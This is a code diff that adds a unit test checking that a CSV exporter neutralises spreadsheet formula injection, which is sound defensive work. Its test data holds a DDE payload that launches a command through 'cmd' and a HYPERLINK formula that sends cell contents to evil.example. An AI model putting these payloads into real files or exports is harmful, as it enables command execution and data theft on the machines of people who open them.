@@ -76,6 +76,36 @@ describe('published data', () => {
     expect(lines.at(-1)).toBe('');
   });
 
+  it('quotes text a spreadsheet would run as a formula, and keeps numbers numbers', () => {
+    const hostile = {
+      ...tricky,
+      name: '@SUM(1+1)*cmd|" /C calc"!A0',
+      city: '+Frankfurt',
+      lon: -8.68,
+      events: [
+        {
+          ...tricky.events[0]!,
+          note: {
+            en: '=HYPERLINK("https://evil.example/?"&A1,"Click for sources")',
+            'zh-CN': '-1+1',
+          },
+        },
+      ],
+    };
+    const row = toCsv([hostile]).split('\r\n')[1]!;
+    expect(row).toContain(`,"'@SUM(1+1)*cmd|"" /C calc""!A0","'+Frankfurt",DE,50.11,-8.68,`);
+    expect(row).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""Click for sources"")",`);
+    // The Chinese note, the last column, is quoted the same way.
+    expect(row.endsWith(`,"'-1+1"`)).toBe(true);
+    for (const start of ['-', '\t', '\r']) {
+      const cell = toCsv([{ ...tricky, city: `${start}x` }])
+        .split('\r\n')
+        .slice(1)
+        .join('\r\n');
+      expect(cell).toContain(`,"'${start}x",`);
+    }
+  });
+
   it('writes RFC 7946 GeoJSON: one Point per region, longitude first', () => {
     const geojson = toGeoJson(REGIONS);
     expect(geojson.type).toBe('FeatureCollection');
